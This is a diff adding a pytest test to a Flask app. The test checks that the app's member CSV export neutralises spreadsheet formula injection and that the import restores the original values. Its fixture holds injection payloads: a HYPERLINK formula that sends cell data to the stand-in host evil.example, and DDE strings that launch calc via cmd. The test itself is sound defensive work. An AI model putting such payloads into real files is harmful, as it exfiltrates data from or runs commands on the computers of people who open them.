@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 
 from flask.testing import FlaskClient
@@ -137,3 +138,40 @@ def test_create_edit_and_deactivate_a_member(app, client: FlaskClient, login) ->
     assert '<th scope="row">Moncton LIP' not in client.get("/members/").get_data(as_text=True)
     assert '<th scope="row">Moncton LIP' in client.get("/members/?inactive=1").get_data(as_text=True)
     assert client.get("/members/no-such-lip/edit").status_code == 404
+
+
+FORMULAS = {
+    "formula-eq": ("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "PLI =1+1"),
+    "formula-plus": ("+cmd|' /C calc'!A0", "PLI"),
+    "formula-minus": ("-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    "formula-tab": ("\t=1+1", "\r=1+1"),  # stored before names were checked: the export still defuses them
+}
+
+
+def test_export_defuses_formulas_and_the_import_restores_them(app, client: FlaskClient, login) -> None:
+    from tests.conftest import add_member
+
+    with app.app_context():
+        for slug, (name_en, name_fr) in FORMULAS.items():
+            add_member(slug, name_en=name_en, name_fr=name_fr, clusters="=tag;ok", population=4200)
+        db.session.commit()
+    login("admin")
+    exported = client.get("/members/export.csv").get_data(as_text=True)
+    rows = {row[0]: row for row in csv.reader(io.StringIO(exported, newline=""))}
+    for slug, (name_en, name_fr) in FORMULAS.items():
+        row = rows[slug]
+        assert row[1] == "'" + name_en and row[2] == ("'" + name_fr if name_fr[0] in "=+-@\t\r" else name_fr)
+        assert row[9] == "'=tag;ok"
+        assert row[7] == "4200"  # numbers stay numbers
+    for row in rows.values():  # no cell of the file starts a formula
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    with app.test_request_context():
+        from app.members.csv_io import check_import
+
+        kept = io.StringIO()
+        csv.writer(kept, lineterminator="\r\n").writerows(row for slug, row in rows.items() if slug != "formula-tab")
+        check = check_import(kept.getvalue().encode(), existing_slugs=set())
+    assert not check.problems, check.problems
+    restored = {row["slug"]: (row["name_en"], row["name_fr"], row["clusters"]) for row in check.rows}
+    for slug in ("formula-eq", "formula-plus", "formula-minus"):
+        assert restored[slug] == (*FORMULAS[slug], "=tag;ok")
